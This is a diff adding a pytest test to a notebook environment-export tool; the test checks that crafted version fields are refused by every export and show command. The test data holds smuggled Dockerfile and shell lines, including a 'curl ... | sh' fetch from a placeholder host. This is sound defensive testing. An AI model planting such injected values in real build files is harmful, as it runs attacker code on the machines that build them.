@@ -53,3 +53,45 @@ def test_export_and_diff_cli(tmp_path, capsys):
     diff = json.loads(capsys.readouterr().out)
     assert diff["packages"][0]["key"] == "numpy" and diff["packages"][0]["new"] == "1.26.4"
     assert cli("env", "diff", src, "current") in (0, 1)
+
+
+INJECTIONS = [
+    ("python", "version", "3.11.7 AS base\nRUN echo pwned #"),
+    ("python", "version", "3.11\n"),  # Python's `$` matches before a final newline: the schema's must not
+    ("packages", "imported", {"numpy": "2.4.6\nRUN curl http://x.invalid/p | sh #"}),
+    ("packages", "imported", {"numpy\nRUN id": "2.4.6"}),
+    ("packages", "installed", {"six": "1.17.0 ; os_name == 'posix'"}),
+]
+
+
+def test_a_crafted_environment_is_refused_by_every_reader_in_one_line(tmp_path, capsys):
+    """A committed `.repro` or a team store can hold an environment whose version fields carry
+    Dockerfile or shell lines: export and show refuse it (exit 2, one line) and emit nothing of it."""
+    src = make_notebook(tmp_path / "e.ipynb", ["import numpy as np\nprint(np.__version__)"])
+    assert cli("run", src, "-q") == 0
+    store = open_store(tmp_path, create=False)
+    nb = nbformat.read(src, 4)
+    recorded = store.objects.get_json(nb.metadata[METADATA_KEY]["environment"])
+    for section, key, value in INJECTIONS:
+        env = json.loads(json.dumps(recorded))
+        env[section][key] = value
+        digest, _ = store.objects.put_json(env)
+        nb.metadata[METADATA_KEY]["environment"] = digest
+        crafted = tmp_path / "crafted.ipynb"
+        nbformat.write(nb, crafted)
+        capsys.readouterr()
+        for argv in (
+            ("env", "export", crafted, "--format", "dockerfile"),
+            ("env", "export", crafted, "--format", "requirements"),
+            ("env", "export", crafted, "--format", "conda"),
+            ("env", "diff", crafted, src),
+            ("show", crafted),
+        ):
+            code = cli(*argv)
+            out, err = capsys.readouterr()
+            assert "RUN" not in out and "pwned" not in out and "os_name" not in out, (argv, value, out)
+            if argv[0] == "show":  # show lists what it could not read and goes on
+                assert code in (0, 2) and "not a valid environment" in out + err, (value, out, err)
+            else:
+                assert code == 2 and len(err.strip().splitlines()) == 1, (argv, value, err)
+                assert "not a valid environment" in err, err
